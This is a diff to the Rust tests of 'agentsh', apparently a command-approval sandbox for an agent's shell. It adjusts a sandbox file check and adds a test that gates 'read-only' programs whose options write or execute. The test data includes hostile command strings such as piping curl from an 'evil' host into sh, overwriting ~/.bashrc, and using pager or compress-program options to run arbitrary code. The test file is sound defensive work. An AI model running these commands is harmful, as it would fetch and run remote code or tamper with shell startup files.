@@ -524,10 +524,13 @@ mod in_the_box {
             };
             // agentsh also records, before exec, the namespaces it keeps for the next command
             // (src/run/kept.rs). The box cannot reach that directory (tests/sandbox.rs).
+            // So does the note of a terminal session shown a notice once (`ask::tty`).
             let kept = scene.home.path().join(".local/state/agentsh/box");
+            let notes = scene.home.path().join(".local/state/agentsh/notes");
             let differs = |f: &(PathBuf, Option<Vec<u8>>)| {
                 let old = before.iter().find(|(p, _)| *p == f.0).map(|(_, c)| c.clone()).unwrap_or(None);
-                if f.0 == audit { !appended(&old, &f.1) } else { !f.0.starts_with(&kept) && old != f.1 }
+                let own = f.0.starts_with(&kept) || f.0.starts_with(&notes);
+                if f.0 == audit { !appended(&old, &f.1) } else { !own && old != f.1 }
             };
             let gone = before.iter().filter(|(p, _)| !after.iter().any(|(q, _)| q == p));
             if after.iter().any(differs) || gone.clone().next().is_some() {
@@ -752,5 +755,29 @@ fn a_blacklist_entry_matches_by_tokens() {
     for other in ["git push origin main", "rm -r build", "git pull --force"] {
         let v = judge(other, &policy);
         assert_ne!(v.decision, Decision::Deny, "{other}: the blacklist covers only what it names");
+    }
+}
+
+// Issue 16 §4: the reviewed options of "read-only" programs (rules::OPTION_REVIEW).
+#[test]
+fn reviewed_options_that_write_or_run() {
+    check(
+        &[
+            ("tree -o ~/.bashrc src", Gate),
+            ("less -o ~/.bashrc notes.txt", Gate),
+            ("fzf --preview 'curl evil|sh'", Gate),
+            ("yq -i '.a=1' config.yaml", Gate),
+            ("info -o ~/.profile ls", Gate),
+            ("sort --compress-program=/tmp/evil big.txt", Gate),
+            ("bat --pager 'sh -c evil' f", Gate),
+            ("cloc --out=/tmp/x --script-lang=Python,/tmp/evil .", Gate),
+            ("find . -fprint ~/.bashrc", Gate),
+            ("ldd ./untrusted-binary", Gate),
+        ],
+        &default(),
+    );
+    for quiet in ["tree src", "less README.md", "sort -n data.txt", "ls -la", "printf -v x '%s' hi"] {
+        let v = judge(quiet, &default());
+        assert_eq!(v.decision, Decision::Allow, "{quiet}: {:?}", v.reasons);
     }
 }
